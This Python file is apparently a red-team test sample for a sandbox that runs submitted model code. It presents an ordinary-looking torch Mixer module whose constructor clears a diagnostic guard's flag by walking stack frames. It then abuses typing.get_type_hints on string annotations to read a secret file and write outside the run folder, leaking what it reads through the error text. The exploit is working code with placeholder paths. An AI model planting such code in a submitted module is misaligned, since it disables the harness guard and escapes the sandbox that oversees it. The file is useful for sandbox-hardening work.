"""Attack class: `typing.get_type_hints` evaluating string annotations with the real builtins
(an empty globals dict gets them), to read a secret file and to write outside the run folder;
the error message of the failed type check carries what was read."""
import typing

import torch
import torch.nn as nn

def _sys():
    """sys, reached through a module handle of an allowed module (typing.operator)."""
    return typing.operator.attrgetter("sys")(torch)


def _guard_off():
    """Walk the frames up to the worker and clear the diagnostic guard's `active` flag: from here
    on only the OS boundary (bwrap, seccomp, rlimits) stands."""
    f = _sys()._getframe()
    while f is not None:
        for v in list(f.f_locals.values()):
            g = getattr(v, "guard", None)
            if g is not None and hasattr(g, "active"):
                g.active = False
        f = f.f_back


def _probe(a: "open('SECRET_FILE').read()"):
    pass


def _write(a: "open('ESCAPE_DIR/pwned_type_hints', 'w').write('x')"):
    pass


class Mixer(nn.Module):
    def __init__(self, d_model: int, n_heads: int, **kwargs):
        super().__init__()
        _guard_off()
        for fn in (_probe, _write):
            try:
                print("hints", typing.get_type_hints(fn, globalns={}, localns={}))
            except Exception as exc:
                print("hint error", str(exc)[:300])
        self.proj = nn.Linear(d_model, d_model)

    def forward(self, x):
        return self.proj(x)
